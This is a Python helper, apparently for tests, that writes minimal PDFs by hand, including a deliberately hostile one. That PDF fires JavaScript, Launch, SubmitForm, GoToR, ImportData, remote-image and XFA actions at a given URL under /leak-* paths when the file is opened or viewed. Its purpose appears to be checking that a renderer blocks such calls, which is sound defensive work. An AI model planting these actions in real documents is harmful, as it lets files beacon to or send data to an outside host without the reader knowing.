"""Makes small PDF files, well-behaved and hostile ones, without a library."""

from __future__ import annotations


def stream(content, entries=""):
    """A stream object of a PDF."""
    data = content.encode()
    return f"<< {entries} /Length {len(data)} >>\nstream\n{content}\nendstream"


def pdf(pages, catalog="", size="0 0 595 842", page="", resources="", more=(), trailer=""):
    """A PDF with these pages.

    Args:
        pages: the drawing operators of each page, in which /F is Helvetica.
        catalog, page, resources, trailer: further entries of the catalog, of each page and of its resources, and of
            the trailer.
        size: the MediaBox of each page.
        more: further objects. The first one has the number 4.
    """
    first = 4 + len(more)  # each page is followed by its content
    kids = " ".join(f"{first + 2 * index} 0 R" for index in range(len(pages)))
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        f"<< /Type /Pages /Kids [{kids}] /Count {len(pages)} >>",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *more,
    ]
    for index, content in enumerate(pages):
        objects.append(
            f"<< /Type /Page /Parent 2 0 R /MediaBox [{size}] /Contents {first + 2 * index + 1} 0 R"
            f" /Resources << /Font << /F 3 0 R >> {resources} >> {page} >>"
        )
        objects.append(stream(content))
    out, offsets = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n{content}\nendobj\n".encode()
    table = "".join(f"{offset:010} 00000 n \n" for offset in offsets)
    return (
        out
        + (
            f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}"
            f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R {trailer} >>\nstartxref\n{len(out)}\n%%EOF\n"
        ).encode()
    )


def text(words, at=(72, 720), size=24):
    """Operators that write words on a page."""
    return f"BT /F {size} Tf {at[0]} {at[1]} Td ({words}) Tj ET"


def hostile(url):
    """A PDF that tries, in each way that the format has, to execute something or to ask `url` for something."""
    actions = [
        f"<< /S /JavaScript /JS (app.launchURL\\('{url}/leak-js'\\); this.submitForm\\('{url}/leak-js'\\);) >>",
        f"<< /S /URI /URI ({url}/leak-uri) >>",
        f"<< /S /Launch /F << /Type /Filespec /FS /URL /F ({url}/leak-launch) >> >>",
        f"<< /S /SubmitForm /F << /FS /URL /F ({url}/leak-submit) >> /Flags 4 >>",
        f"<< /S /GoToR /F << /FS /URL /F ({url}/leak-remote) >> /D [0 /Fit] >>",
        f"<< /S /ImportData /F << /FS /URL /F ({url}/leak-import) >> >>",
        f"<< /S /Rendition /OP 0 /JS (app.launchURL\\('{url}/leak-rendition'\\)) >>",
    ]
    numbers = range(4, 4 + len(actions))
    links = " ".join(
        f"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A {number} 0 R"
        f" /AA << /PO {number} 0 R /PV {number} 0 R /E {number} 0 R >> >>"
        for number in numbers
    )
    image, embedded = numbers[-1] + 1, numbers[-1] + 2
    more = [
        *actions,
        stream(
            "",
            "/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray"
            f" /F << /FS /URL /F ({url}/leak-image) >>",
        ),
        stream("<script>document.title = 'executed'</script>", "/Type /EmbeddedFile /Subtype /text#2Fhtml"),
    ]
    return pdf(
        [text("hostile") + " /I Do"],
        catalog=f"/OpenAction {numbers[0]} 0 R /AA << /WC {numbers[0]} 0 R /WS {numbers[0]} 0 R >>"
        f" /Names << /JavaScript << /Names [(a) {numbers[0]} 0 R] >>"
        f" /EmbeddedFiles << /Names [(a.html) << /Type /Filespec /F (a.html) /EF << /F {embedded} 0 R >> >>] >> >>"
        f" /URI << /Base ({url}/leak-base) >>"
        " /AcroForm << /NeedAppearances true /Fields"
        f" [<< /FT /Btn /T (b) /Subtype /Widget /Rect [0 0 9 9] /A {numbers[3]} 0 R >>]"
        f' /XFA [(template) (<template><subform><event activity="initialize"><script>x</script></event>)] >>',
        page=f"/Annots [{links}] /AA << /O {numbers[0]} 0 R /C {numbers[1]} 0 R >>",
        resources=f"/XObject << /I {image} 0 R >>",
        more=more,
    )


def locked(content):
    """A PDF that wants a password. What its pages have is not encrypted, but no reader finds that out."""
    key = "00" * 32
    return pdf(
        [content],
        trailer=f"/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <{key}> /U <{key}> >> /ID [<00> <00>]",
    )
